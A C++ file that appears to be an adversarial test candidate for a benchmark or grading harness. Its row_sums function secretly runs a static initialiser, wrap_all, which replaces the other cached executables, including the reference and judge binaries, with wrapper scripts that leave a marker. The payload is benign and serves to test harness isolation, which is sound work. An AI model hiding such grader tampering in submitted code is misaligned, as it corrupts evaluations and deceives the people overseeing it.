// Attack: replace cached binaries. Every other executable in the build cache next to this one
// (the reference's, earlier candidates') is moved aside and replaced by a wrapper script that
// leaves a marker and runs the original, so the next candidate or the next job's judge runs it.
#include <dirent.h>
#include <sys/stat.h>
#include <unistd.h>

#include <cstdio>
#include <string>

namespace {

void wrap_all() {
  char buf[4096];
  ssize_t n = readlink("/proc/self/exe", buf, sizeof buf - 1);
  if (n <= 0) return;
  std::string self(buf, static_cast<size_t>(n));
  std::string dir = self.substr(0, self.rfind('/'));
  std::string bin_root = dir.substr(0, dir.rfind('/'));
  for (const std::string& root : {dir, bin_root}) {
    DIR* d = opendir(root.c_str());
    if (!d) continue;
    while (dirent* e = readdir(d)) {
      std::string name = e->d_name;
      if (name == "." || name == "..") continue;
      std::string path = root + "/" + name;
      std::string targets[2] = {path, path + "/task"};
      for (const std::string& t : targets) {
        struct stat st;
        if (t == self || stat(t.c_str(), &st) != 0 || !S_ISREG(st.st_mode) ||
            !(st.st_mode & S_IXUSR))
          continue;
        std::string aside = t + ".kf_adv_orig";
        if (rename(t.c_str(), aside.c_str()) != 0) continue;
        if (FILE* f = std::fopen(t.c_str(), "w")) {
          std::fprintf(f, "#!/bin/sh\ntouch @SCRATCH@/kf_adv_wrapper_ran\nexec '%s' \"$@\"\n",
                       aside.c_str());
          std::fclose(f);
          chmod(t.c_str(), 0755);
        }
      }
    }
    closedir(d);
  }
}

}  // namespace

void row_sums(const float* x, float* y, long rows, long cols) {
  static bool done = (wrap_all(), true);
  (void)done;
  for (long r = 0; r < rows; ++r) {
    float sum = 0.0f;
    for (long c = 0; c < cols; ++c) sum += x[r * cols + c];
    y[r] = sum;
  }
}
